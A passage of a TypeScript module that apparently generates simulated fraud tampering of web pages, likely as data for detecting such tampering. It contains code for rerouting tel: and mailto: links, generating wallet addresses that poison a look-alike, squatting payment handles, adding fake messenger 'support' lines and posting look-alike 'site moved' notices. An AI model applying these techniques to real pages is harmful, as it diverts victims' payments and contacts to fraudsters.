  const line = loc.iban !== null ? `IBAN ${groupIban(loc.iban(rng))}` : loc.nationalBank !== null ? loc.nationalBank(rng) : `IBAN ${groupIban(foreignIban(rng))}`
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], `${esc(page.site.words.bank)}: ${esc(line)}`, slotAt(page.spots, "bottom")))
})

// Click-to-call diversion (only the tel: link behind the number changed, the shown digits untouched, so mobile visitors who tap call the fraudster's line; described in call-centre and locksmith scams on hacked small-business pages): every tel: link to another number.
const telLinkOnly = deface("fresh34-tel-links-point-to-other-number-shown-digits-unchanged", (page, rng) => {
  const p = page.ids.phone
  const other = chance(rng, 0.6) ? swapPhone(page.site.locale, p, rng) : makePhone(page.site.locale, p.format, rng)
  const tels = anchors(page, (h) => /^tel:/i.test(h))
  if (tels.length > 0) return splices(...tels.map((a) => setAttr(page, a, "href", `tel:${other.digits === p.digits ? `+${other.digits}1` : other.tel}`)))
  const out = everywhere(page, [[p.national, other.national]])
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: <a href="tel:${other.tel}">${esc(p.national)}</a>`, slotAt(page.spots, "bottom")))
})

/** A domain that looks like `domain` (hyphen, extra word, another TLD, a letter changed). */
const domainLike = (rng: Rng, page: Page): string => {
  const d = page.site.domain
  const b = page.site.brand
  const rest = d.slice(b.length + 1)
  return pick(rng, [
    () => `${b}-${rest.replace(/\./g, "-")}.${pick(rng, ["com", "net", "info"])}`,
    () => `${b}${pick(rng, ["-contact", "-support", "-service", "-info", "mail"])}.${rest}`,
    () => `${b}.${pick(rng, ["com", "net", "org", "eu", "info", "co"]).replace(rest, "net")}`,
    () => brandLookalike(rng, b)
  ])()
}

// Mail diversion through the mailto: link only (the address shown unchanged, the link writing to a look-alike domain the intruder registered), from invoice-fraud and recruitment-scam cases: every mailto: link to the same mailbox name at a look-alike domain.
const mailtoOnly = deface("fresh34-mailto-links-to-lookalike-domain-shown-address-unchanged", (page, rng) => {
  const local = page.ids.email.split("@")[0] ?? "info"
  let dom = domainLike(rng, page)
  if (dom === page.site.domain) dom = `${page.site.brand}-mail.com`
  const next = `${local}@${dom}`
  const links = anchors(page, (h) => /^mailto:/i.test(h))
  if (links.length > 0) return splices(...links.map((a) => setAttr(page, a, "href", `mailto:${next}`)))
  const out = everywhere(page, [[page.ids.email, next]])
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.phone.intl], `${esc(page.site.words.email)}: <a href="mailto:${next}">${esc(page.ids.email)}</a>`, slotAt(page.spots, "bottom")))
})

const alphabet = (addr: string): string =>
  addr.startsWith("bc1") ? "qpzry9x8gf2tvdw0s3jn54khce6mua7l" : addr.startsWith("0x") ? "0123456789abcdef" : "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
const poisoned = (rng: Rng, addr: string): string => {
  const pre = addr.startsWith("bc1q") ? 4 : addr.startsWith("0x") ? 2 : 1
  const head = pre + between(rng, 3, 5)
  const tail = between(rng, 4, 6)
  const chars = alphabet(addr)
  for (;;) {
    let mid = ""
    for (let i = head; i < addr.length - tail; i++) mid += chars[int(rng, chars.length)]
    const next = addr.slice(0, head) + mid + addr.slice(addr.length - tail)
    if (next !== addr) return next
  }
}

// Address poisoning (a wallet address replaced by one whose first and last characters match, generated on purpose so that a donor who checks only the ends is fooled; described by wallet vendors and chain analysts since 2022): the site's wallet replaced everywhere by such a look-alike.
const walletLookalike = deface("fresh34-wallet-replaced-by-address-with-same-first-and-last-characters", (page, rng) => {
  const w = page.ids.wallet
  if (w !== null) {
    const out = everywhere(page, [[w.address, poisoned(rng, w.address)]])
    if (out.length > 0) return { splices: out }
  }
  const nw = makeWallet(rng)
  return splices(lineBeside(page, contactNeedles(page), `${esc(page.site.words.donate)}: ${esc(nw.coin)} <code>${nw.address}</code>`, slotAt(page.spots, "bottom")))
})

// Payment-handle squatting (a near-identical PayPal.me, Revolut or Venmo handle, with an underscore, "official" or a digit added, registered by the fraudster and put on the page in place of the real one): the site's handle changed into such a near-duplicate, text and link.
const handleNearDuplicate = deface("fresh34-payment-handle-changed-to-near-duplicate-on-same-service", (page, rng) => {
  const pay = page.ids.pay
  const twist = (h: string) => pick(rng, [`${h}_`, `${h}${pick(rng, ["Official", "official", "Pay", "HQ"])}`, `${h}${digits(rng, 2)}`, h.replace(/o/i, "0") === h ? `${h}s` : h.replace(/o/i, "0"), `_${h}`])
  if (pay !== null && pay.href !== null) {
    const old = pay.href.replace(/\/$/, "").split("/").pop() ?? ""
    const bareOld = old.replace(/^[$@]/, "")
    if (bareOld !== "") {
      const nu = twist(bareOld)
      const out = everywhere(page, [[pay.href, pay.href.replace(bareOld, nu)], [pay.shown, pay.shown.replace(bareOld, nu)]])
      if (out.length > 0) return { splices: out }
    }
  }
  if (pay !== null && pay.href === null) {
    const key = `Chave PIX: ${digits(rng, 3)}.${digits(rng, 3)}.${digits(rng, 3)}-${digits(rng, 2)}`
    const out = textOcc(page, pay.shown).map((r) => replace(r, esc(key)))
    if (out.length > 0) return { splices: out }
  }
  const h = twist(`${brandName(page).replace(/\s+/g, "")}`)
  return splices(lineBeside(page, contactNeedles(page), `${esc(page.site.words.payWith)} <a href="https://www.paypal.me/${esc(h)}">paypal.me/${esc(h)}</a>`, slotAt(page.spots, "bottom")))
})

/** The profile URL of `handle` on the network of `href`. */
const onNetwork = (href: string, handle: string): string => {
  if (/(x|twitter)\.com\//.test(href)) return `https://x.com/${handle}`
  if (/facebook\.com\//.test(href)) return `https://www.facebook.com/${handle}`
  if (/instagram\.com\//.test(href)) return `https://www.instagram.com/${handle.toLowerCase()}/`
  if (/linkedin\.com\//.test(href)) return `https://www.linkedin.com/company/${handle.toLowerCase()}`
  if (/youtube\.com\//.test(href)) return `https://www.youtube.com/@${handle}`
  return `https://t.me/${handle.toLowerCase()}`
}

// Support impersonation through social profiles (the site's own follow-us links pointed at "support", "help" or "care" look-alike accounts that then ask followers for card details or remote access; a recurring pattern in bank and telecom scam advisories): every profile link moved to such an account on the same network.
const socialImpersonators = deface("fresh34-follow-links-moved-to-support-lookalike-accounts-on-same-networks", (page, rng) => {
  const suffix = pick(rng, ["_support", "_help", ".care", "Support", "_officiel", "_oficial", "Help", "_service", "_info"])
  const out: Array<Splice> = []
  for (const s of page.ids.social) {
    if (s.href === null) continue
    const h = s.href.replace(/\/$/, "").split("/").pop()?.replace(/^@/, "") ?? ""
    if (h === "") continue
    const nu = onNetwork(s.href, `${h}${suffix}`.replace(/\.(?=.*\.)/g, ""))
    const links = anchors(page, (x) => x === s.href)
    out.push(...links.map((a) => setAttr(page, a, "href", nu)))
  }
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.follow)}: <a href="https://t.me/${bare(page)}${suffix.replace(/\./g, "")}">Telegram</a>`, slotAt(page.spots, "bottom")))
})

const supportLine: T<ReadonlyArray<string>> = {
  en: ["Official customer support 24/7 on {M}: {H}", "For urgent questions about payments or refunds contact our agent on {M}: {H}"],
  fr: ["Service client officiel 7j/7 sur {M} : {H}", "Pour toute question urgente sur un paiement ou un remboursement, contactez notre conseiller sur {M} : {H}"],
  de: ["Offizieller Kundenservice rund um die Uhr auf {M}: {H}", "Bei dringenden Fragen zu Zahlungen oder Erstattungen schreiben Sie unserem Berater auf {M}: {H}"],
  es: ["Atención al cliente oficial 24/7 en {M}: {H}", "Para dudas urgentes sobre pagos o reembolsos, contacte con nuestro agente en {M}: {H}"],
  nl: ["Officiële klantenservice 24/7 via {M}: {H}", "Voor dringende vragen over betalingen of terugbetalingen: neem contact op met onze medewerker via {M}: {H}"],
  pt: ["Atendimento oficial 24h no {M}: {H}", "Dúvidas urgentes sobre pagamentos ou reembolsos? Fale com nosso atendente no {M}: {H}"],
  it: ["Assistenza clienti ufficiale 24/7 su {M}: {H}", "Per domande urgenti su pagamenti o rimborsi contatta il nostro operatore su {M}: {H}"]
}

// Fake support lines on messengers (a Telegram or WhatsApp "official support" contact added to a real organisation's contact block, where the "agent" asks for card codes or remote access; frequent in bank, telecom and tax-office impersonation reports): one line beside the contact lines.
const messengerSupport = deface("fresh34-official-support-contact-on-messenger-added-to-contact-lines", (page, rng) => {
  const tg = chance(rng, 0.5)
  const foreign = pick(rng, [
    () => `+44 7${digits(rng, 3)} ${digits(rng, 6)}`, () => `+34 6${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`, () => `+351 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`,
    () => `+32 4${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`, () => `+48 5${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`, () => `+1 ${between(rng, 2, 9)}${digits(rng, 2)} ${between(rng, 2, 9)}${digits(rng, 2)} ${digits(rng, 4)}`,
    () => `+63 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+234 8${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`
  ])
  const h = tg ? `@${bare(page)}${pick(rng, ["_support", "_help", "_officiel", "_oficial", "_service", "support", "care"])}${chance(rng, 0.3) ? digits(rng, 2) : ""}` : foreign()
  const text = fill(pick(rng, supportLine[citizen(rng, page).lang]), { M: tg ? "Telegram" : "WhatsApp", H: h })
  const link = tg ? `https://t.me/${h.slice(1)}` : `https://wa.me/${h.replace(/\D/g, "")}`
  return splices(lineBeside(page, contactNeedles(page), `${esc(text)} <a href="${esc(link)}">${tg ? "t.me" : "wa.me"}</a>`, slotAt(page.spots, "bottom")))
})

const movedText: T<ReadonlyArray<string>> = {
  en: ["Our website has moved to {D}. Please update your bookmarks and log in there; this site will close on {d}."],
  fr: ["Notre site déménage sur {D}. Mettez à jour vos favoris et connectez-vous à cette adresse ; ce site fermera le {d}."],
  de: ["Unsere Website ist umgezogen: {D}. Bitte aktualisieren Sie Ihre Lesezeichen und melden Sie sich dort an; diese Seite wird am {d} abgeschaltet."],
  es: ["Nuestra web se ha trasladado a {D}. Actualice sus favoritos e inicie sesión allí; este sitio cerrará el {d}."],
  nl: ["Onze website is verhuisd naar {D}. Werk uw bladwijzers bij en log daar in; deze site sluit op {d}."],
  pt: ["Nosso site mudou para {D}. Atualize seus favoritos e acesse por lá; este site será desativado em {d}."],
  it: ["Il nostro sito si è trasferito su {D}. Aggiorna i preferiti e accedi lì; questo sito chiuderà il {d}."]
}

// "We have moved" notices pointing at a look-alike domain (so that bookmarks, logins and payments follow the fraudster's copy of the site; described in takeover and typosquatting write-ups): one notice near the top with a link to the new address.
const movedToLookalike = deface("fresh34-site-moved-notice-pointing-to-lookalike-domain", (page, rng) => {
  let dom = domainLike(rng, page)
  if (dom === page.site.domain) dom = `${page.site.brand}-new.com`
  const D = `${chance(rng, 0.5) ? "www." : ""}${dom}`
  const text = esc(fill(pick(rng, say(page, movedText)), { D, d: soon(page, rng, 3, 30) })).replace(esc(D), `<a href="https://${esc(D)}/">${esc(D)}</a>`)
  return splices(insert(blockSpot(rng, page), `<p class="${pick(rng, ["notice", "announcement", "info", "moved"])}"><strong>${text}</strong></p>`))
})

const foreignMobile = (rng: Rng, cc: string): { readonly shown: string; readonly digits: string } => {
  const opts = [
    ["44", () => `7${digits(rng, 3)} ${digits(rng, 6)}`], ["34", () => `6${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`], ["351", () => `9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`],
    ["32", () => `4${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`], ["48", () => `5${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`], ["40", () => `7${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`],
    ["225", () => `07 ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`], ["212", () => `6 ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`], ["371", () => `2${digits(rng, 3)} ${digits(rng, 4)}`]
  ] as const
  const pool = opts.filter(([c]) => c !== cc)
  const [c, f] = pick(rng, pool)
  const rest = f()
  return { shown: `+${c} ${rest}`, digits: `${c}${rest.replace(/\D/g, "")}` }
}

// Phone diversion to a foreign mobile (a hacked page's number replaced by a mobile in another country, typical of call-back and fake-support fraud run from abroad; the international format makes it look like a service number): the site's number replaced everywhere, both notations and the tel: link.
const phoneForeignMobile = deface("fresh34-phone-replaced-everywhere-by-foreign-mobile-number", (page, rng) => {
  const p = page.ids.phone
  const cc = p.tel.slice(1, p.tel.length - p.digits.length)
  const m = foreignMobile(rng, cc)
  const out = everywhere(page, [[p.tel, `+${m.digits}`], [p.intl, m.shown], [p.national, m.shown]])
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: ${esc(m.shown)}`, slotAt(page.spots, "bottom")))
})

const instantPay: Readonly<Record<string, (rng: Rng, page: Page) => string>> = {
  us: (rng, page) => `Zelle: ${personMail(rng, page)}`,
  uk: (rng, page) => `PayPal (Friends and Family): ${personMail(rng, page)}`,
  fr: (rng) => `Wero / Lydia : 0${pick(rng, ["6", "7"])} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`,
  de: (rng, page) => `PayPal (Freunde & Familie): ${personMail(rng, page)}`,
  es: (rng) => `Bizum: 6${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`,
  nl: (rng) => `Tikkie: https://tikkie.me/pay/${alnum(rng, 8)}`,
  au: (rng) => `PayID: 04${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`,
  in: (rng, page) => `UPI: ${ascii(personName(rng, page).split(" ")[0] ?? "pay")}${digits(rng, 3)}@${pick(rng, ["okaxis", "ybl", "paytm", "oksbi"])}`,
  br: (rng) => `Chave PIX: (${pick(rng, ["11", "21", "31", "81"])}) 9${digits(rng, 4)}-${digits(rng, 4)}`,
  it: (rng) => `Satispay / PostePay: 3${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`
}
const instantText: T<string> = {
  en: "For faster processing, pay instantly by {K} (name: {P}).", fr: "Pour un traitement plus rapide, payez instantanément par {K} (au nom de {P}).", de: "Für eine schnellere Bearbeitung zahlen Sie sofort per {K} (Name: {P}).",
  es: "Para agilizar el trámite, pague al instante por {K} (a nombre de {P}).", nl: "Voor snellere verwerking kunt u direct betalen via {K} (t.n.v. {P}).", pt: "Para agilizar, pague na hora via {K} (em nome de {P}).", it: "Per un'elaborazione più rapida, paga subito con {K} (intestato a {P})."
}

// Instant-payment diversion (Bizum, PIX, Tikkie, Satispay, UPI, Zelle or "friends and family" requests to a private person, which cannot be reversed; bank associations warn of them in rent, ticket and association-fee frauds): the site's payment handle replaced by, or a line added with, such a key in a person's name.
const instantPayKey = deface("fresh34-instant-payment-key-of-a-private-person-for-faster-processing", (page, rng) => {
  const K = (instantPay[page.site.locale.country] ?? instantPay.uk!)(rng, page)
  const P = personName(rng, page)
  const text = esc(fill(instantText[citizen(rng, page).lang], { K, P }))
  const pay = page.ids.pay
  if (pay !== null && chance(rng, 0.5)) {
    const occs = textOcc(page, pay.shown)
    if (occs.length > 0) return splices(...occs.map((r) => replace(r, esc(`${K} (${P})`))))
  }
  return splices(lineBeside(page, contactNeedles(page), text, slotAt(page.spots, "bottom")))
})

/** Every fresh34 defacement class, in a fixed order. */
export const fresh34Defacements: ReadonlyArray<ChangeClass> = [
  campaignBanner, styleOnlyMessage, nameMocked, paragraphStatement, extortionNote, pictureOverlay, gamblingSnippet, logoSwapped, electionHoax, hoaxRecall,
  unpaidFine, taxRefundForm, parcelFee, ownLinksRerouted, formsRedirected, metaRefreshBetting, casinoFrame, pasteCommandLure, skimmerLoader, disasterAppeal, benefitClaim,
  bankChangedAbroad, accountDigitsChanged, telLinkOnly, mailtoOnly, walletLookalike, handleNearDuplicate, socialImpersonators, messengerSupport, movedToLookalike, phoneForeignMobile, instantPayKey
]
